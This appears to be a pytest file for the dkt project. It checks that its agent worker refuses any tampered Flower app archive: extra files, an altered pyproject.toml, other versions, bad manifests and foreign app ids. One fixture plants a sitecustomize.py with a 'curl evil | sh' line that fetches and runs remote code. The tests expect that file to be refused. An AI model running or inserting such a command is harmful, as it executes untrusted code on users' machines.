"""The agent worker runs only the FAB that its installed dkt builds (runtime.check_app):
the app id and ClientApp are not enough; the FAB must hold the same pyproject.toml as
`write_app` writes and nothing but Flower's manifest of it."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from flwr.cli.build import build_fab_from_disk

from dkt import __version__
from dkt.flower import runs
from dkt.flower.runs import write_app
from dkt.flower.runtime import check_app

APP_ID = "dkt/dkt-app"


def built(app: Path) -> bytes:
    """The FAB that `dkt launch` submits for this app folder (Flower's own builder)."""
    return build_fab_from_disk(app)


def edited(app: Path, old: str, new: str) -> Path:
    pyproject = app / "pyproject.toml"
    text = pyproject.read_text()
    assert old in text
    pyproject.write_text(text.replace(old, new))
    return app


def rezipped(fab: bytes, **extra: bytes) -> bytes:
    """`fab` with files added (or replaced), as anyone with a zip tool can make it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(fab)) as old, zipfile.ZipFile(buffer, "w") as new:
        for info in old.infolist():
            if info.filename not in extra:
                new.writestr(info, old.read(info))
        for name, content in extra.items():
            new.writestr(name, content)
    return buffer.getvalue()


def test_dkts_own_fab_is_accepted(tmp_path: Path) -> None:
    fab = built(write_app(tmp_path / "app"))

    with zipfile.ZipFile(io.BytesIO(fab)) as archive:
        assert sorted(archive.namelist()) == [".info/CONTENT", "pyproject.toml"]
    check_app(APP_ID, fab)  # raises nothing


def test_a_fab_with_dkts_id_and_clientapp_but_another_file_is_refused(tmp_path: Path) -> None:
    app = write_app(tmp_path / "app")
    (app / "sitecustomize.py").write_text("import os; os.system('curl evil | sh')\n")
    fab = built(app)

    with pytest.raises(ValueError) as refused:
        check_app(APP_ID, fab)

    assert str(refused.value) == (
        f"this DKT agent runs only the DKT app as dkt {__version__} builds it (a "
        "pyproject.toml and nothing else), but the run's app also holds sitecustomize.py"
    )


@pytest.mark.parametrize(
    ("old", "new", "differs_in"),
    [
        (
            '"dkt.server.conductor.app:app"',
            '"their.serverapp:app"',
            "tool.flwr.app.components.serverapp",
        ),
        ("dependencies = []", 'dependencies = ["evil-package"]', "project.dependencies"),
        (
            "[tool.flwr.app.config]\n",
            '[tool.flwr.app.config]\nextra-key = "x"\n',
            "tool.flwr.app.config.extra-key",
        ),
    ],
    ids=["serverapp", "dependency", "config-key"],
)
def test_a_fab_with_a_changed_pyproject_is_refused_naming_what_differs(
    tmp_path: Path, old: str, new: str, differs_in: str
) -> None:
    fab = built(edited(write_app(tmp_path / "app"), old, new))

    with pytest.raises(ValueError) as refused:
        check_app(APP_ID, fab)

    assert str(refused.value) == (
        f"this DKT agent runs only the DKT app as dkt {__version__} builds it, but the "
        f"run's pyproject.toml differs in {differs_in}: launch runs with the dkt version "
        "the agents run"
    )


def test_a_fab_built_by_another_dkt_version_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(runs, "__version__", "0.0.1-other")
    fab = built(write_app(tmp_path / "app"))
    monkeypatch.undo()

    with pytest.raises(ValueError) as refused:
        check_app(APP_ID, fab)

    assert str(refused.value) == (
        f"this DKT agent runs only the DKT app as dkt {__version__} builds it, but the "
        "run's pyproject.toml differs in project.version; it was built by dkt 0.0.1-other: "
        "launch runs with the dkt version the agents run"
    )


def test_a_manifest_that_does_not_describe_the_pyproject_is_refused(tmp_path: Path) -> None:
    fab = rezipped(built(write_app(tmp_path / "app")), **{".info/CONTENT": b"other,0,0"})

    with pytest.raises(ValueError, match=r"another \.info/CONTENT than Flower writes"):
        check_app(APP_ID, fab)


def test_a_fab_naming_its_pyproject_twice_is_refused(tmp_path: Path) -> None:
    fab = built(write_app(tmp_path / "app"))
    buffer = io.BytesIO(rezipped(fab))
    with zipfile.ZipFile(buffer, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("pyproject.toml", b"[project]\nname = 'other'\n")

    with pytest.raises(ValueError, match="names a file twice"):
        check_app(APP_ID, buffer.getvalue())


def test_bytes_that_are_not_a_zip_are_refused() -> None:
    with pytest.raises(ValueError, match=r"the run's app is not a FAB \(a zip\)"):
        check_app(APP_ID, b"not a zip at all")


def test_another_apps_id_is_refused_with_the_way_to_run_other_apps(tmp_path: Path) -> None:
    fab = built(write_app(tmp_path / "app"))

    with pytest.raises(ValueError, match="runs only the DKT app.*--fresh-process"):
        check_app("someone/other-app", fab)


def test_a_pyproject_whose_tables_are_not_tables_is_refused_as_another_app(tmp_path: Path) -> None:
    fab = rezipped(built(write_app(tmp_path / "app")), **{"pyproject.toml": b'tool = "x"\n'})

    with pytest.raises(ValueError, match="the run's app is dkt/dkt-app with ClientApp None"):
        check_app(APP_ID, fab)
